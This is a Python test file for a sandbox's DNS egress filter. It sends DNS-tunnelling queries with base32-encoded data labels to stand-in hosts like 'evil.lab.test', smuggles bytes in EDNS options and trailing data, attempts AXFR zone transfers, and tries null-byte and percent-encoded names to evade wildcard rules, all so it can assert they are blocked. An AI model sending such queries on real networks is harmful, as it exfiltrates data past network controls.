# SPDX-License-Identifier: Apache-2.0
"""Ways out by names: what a resolver would carry."""
from frame import need, row, want
from lab import DENIED4, DENIED6

UPSTREAM = ("10.77.0.53", "fd77::53")
# ask.py SERVER NAME TYPE [OPCODE [CLASS [EXTRA]]]: over UDP and TCP; says what came back.
ASK = """
import os, socket, struct, sys, urllib.parse
def query(name, kind, opcode=0, klass=1, extra=""):
    labels = b"".join(bytes([len(part)]) + part for part in map(urllib.parse.unquote_to_bytes, name.split(".")) if part)
    more = {"edns": b"\\0\\0\\x29\\x10\\0\\0\\0\\0\\0" + bytes([14]) + b"\\xfd\\xe9\\0\\x0ahidden-data", "tail": b"hidden-data-after-it"}.get(extra, b"")
    count = 2 if extra == "two" else 1
    question = labels + b"\\0" + struct.pack("!HH", kind, klass)
    head = os.urandom(2) + struct.pack("!HHHHH", opcode << 11 | 0x100, count, 0, 0, 1 if extra == "edns" else 0)
    return head + question * count + more
def ask(server, message, tcp):
    family = 10 if ":" in server else 2
    with socket.socket(family, 1 if tcp else 2) as sock:
        sock.settimeout(0.4)
        try:
            sock.connect((server, 53))
            sock.send(struct.pack("!H", len(message)) + message if tcp else message)
            answer = sock.recv(4096)
            return answer[2:] if tcp else answer
        except OSError as error:
            return str(error)
for line in sys.argv[1:]:
    server, name, kind, *rest = line.split()
    numbers = [int(word) for word in rest[:2]] + [0, 1][len(rest[:2]):]
    message = query(name, int(kind), numbers[0], numbers[1], rest[2] if len(rest) > 2 else "")
    for tcp in (False, True):
        answer = ask(server, message, tcp)
        print(line, "tcp" if tcp else "udp", f"rcode {answer[3] & 15} answers {answer[7]}" if isinstance(answer, bytes) and len(answer) > 11 else answer)
"""
NAMED = """apiVersion: networking.istio.io/v1
kind: ServiceEntry
metadata:
  name: named
spec:
  hosts:
{hosts}
  ports:
  - number: 443
    name: tls
    protocol: TLS
  resolution: DNS
  location: MESH_EXTERNAL
"""


def ask(*lines):
    return ["python3", "-c", ASK, *lines]


def name_hosts(t, *hosts):
    t.forget()
    t.create(NAMED.format(hosts="\n".join(f"  - '{host}'" for host in hosts)))


def asked(t):
    return lambda: t.lab.packets(*UPSTREAM)


# What carries data in the name, in the type, in the class, beside the question and behind it.
CHANNELS = ["nb2hi4dthixs653xo4xhg5dpnzsa.evil.lab.test 1", "nb2hi4dthixs653xo4xhg5dpnzsa.nb2hi4dthixs653xo4xhg5dpnzsa.lab.test 28", "evil.lab.test 16",
            "evil.lab.test 10", "evil.lab.test 255", "evil.lab.test 65", "evil.lab.test 12", "66.113.0.203.in-addr.arpa 12", "evil.lab.test 15",
            "evil.lab.test 33", "evil.lab.test 43", "com 2", "evil.lab.test 1 0 3", "evil.lab.test 1 0 255", "evil.lab.test 1 0 1 edns", "evil.lab.test 1 0 1 tail",
            "evil.lab.test 1 0 1 two"]


@row("E23", "A tunnel in the names asked, in other types, beside the question", gates=["NETWORK_NAMESPACE", "NAMES", "NAME_TYPES"])
def tunnel(t):
    """A rule names one host; nothing about any other is asked upstream, and of that one its addresses only."""
    name_hosts(t, "www.wikipedia.org")
    server = UPSTREAM[0]
    lines = [f"{server} {channel}" for channel in CHANNELS]
    t.control(ask(*lines[:2]), counter=asked(t))
    with t.silent(asked(t), "packets at the DNS server"):
        done = t.inside(ask(*lines))
    refused = done.denied({"dns_no_rule", "dns_malformed", "dns_type"}, "dns")
    need(len(refused) >= 2 * len(CHANNELS) - 2, f"{len(refused)} records for {2 * len(CHANNELS)} queries")
    want(" answers 1" not in done.stdout, done.stdout)
    data = [f"{server} www.wikipedia.org {kind}" for kind in (16, 10, 255, 65, 64, 12, 15, 252, 251)]
    with t.silent(asked(t), "packets at the DNS server for data of the name that is named"):
        done = t.inside(ask(*data))
    need(done.denied({"dns_type"}, "dns"), "no record of a refused type")
    before = asked(t)()
    done = t.inside(ask(f"{server} www.wikipedia.org 1", f"{server} WWW.wikipedia.ORG 28"))
    need(asked(t)() > before and "answers 1" in done.stdout, "what is named is not answered: " + done.stdout)
    # What a query for it carries beside the question stays here.
    t.lab.forget_queries()
    t.inside(ask(f"{server} www.wikipedia.org 1 0 1 edns", f"{server} www.wikipedia.org 1 0 1 tail"))
    want(b"hidden-data" not in t.lab.queries(), "bytes beside the question went on to the DNS server")
    t.outside(ask(f"{server} www.wikipedia.org 1 0 1 edns"))
    need(b"hidden-data" in t.lab.queries(), "the control: without Weir they do not arrive either")


@row("E24", "DNS over TCP, other operations, transfers, servers of one's own choice", gates=["NETWORK_NAMESPACE", "NAMES"])
def other_dns(t):
    """Port 53 of every address is Weir's resolver; the canary is a DNS server too and hears nothing."""
    servers = (DENIED4, DENIED6, "8.8.8.8", "2001:4860:4860::8888")
    lines = [f"{server} {what}" for server in servers for what in ("leak.lab.test 1", "leak.lab.test 252", "leak.lab.test 6 4", "leak.lab.test 6 5", "leak.lab.test 1 2")]
    t.forget()
    counter = t.lab.every_packet
    t.control(ask(*lines[:5]), counter=counter)
    with t.silent(counter):
        done = t.inside(ask(*lines))
    want(" answers 1" not in done.stdout, done.stdout)
    need(done.denied({"dns_no_rule"}, "dns"), "no record of a refused name")
    t.attempt(["sh", "-c", f"for how in +notcp +tcp; do dig +tries=1 +time=1 $how @{DENIED4} leak.lab.test; dig +tries=1 +time=1 $how @{DENIED6} -t AXFR lab.test; done"],
              reasons={"dns_no_rule"}, protocol="dns", counter=counter)


@row("E58", "Wildcards and suffixes", gates=["NETWORK_NAMESPACE", "NAMES"])
def wildcards(t):
    """The star stands for whole labels on the left; a name that merely ends or begins alike is another name."""
    name_hosts(t, "www.wikipedia.org", "*.lab.test")
    server = UPSTREAM[0]
    others = ["evilwww.wikipedia.org", "www.wikipedia.org.evil.test", "wikipedia.org", "xwikipedia.org", "a.www.wikipedia.org", "lab.test", "evillab.test",
              "lab.test.evil.test", "x.lab.test.evil.test", "www.wikipedia.or", "ww.wikipedia.org", "www.wikipedia%2Eorg", "www.wikipedia.org%00.evil.test",
              "www.wikipedia.org%20", "%00.www.wikipedia.org", "a%2Elab.test", "%FF.evil.test",
              "%00.lab.test", "x%FFy.lab.test", "a%20b.lab.test"]
    t.control(ask(f"{server} {others[0]} 1"), counter=asked(t))
    with t.silent(asked(t), "packets at the DNS server for names that no rule names"):
        done = t.inside(ask(*(f"{server} {name} 1" for name in others)))
    need(done.denied({"dns_no_rule"}, "dns"), "no record of a refused name")
    before = asked(t)()
    done = t.inside(ask(f"{server} denied.lab.test 1", f"{server} WWW.WIKIPEDIA.org. 1"))
    need(asked(t)() > before and done.stdout.count("answers 1") == 4, "what is named is not answered: " + done.stdout)
    for bad in ("*evil.test", "w*.evil.test", "*.*.test", "evil.*.test", ".evil.test"):
        done = t.command("validate", "-f", "-", input=NAMED.format(hosts=f"  - '{bad}'"))
        want(done.returncode != 0, f"{bad} is accepted as a host: {done.stdout}")
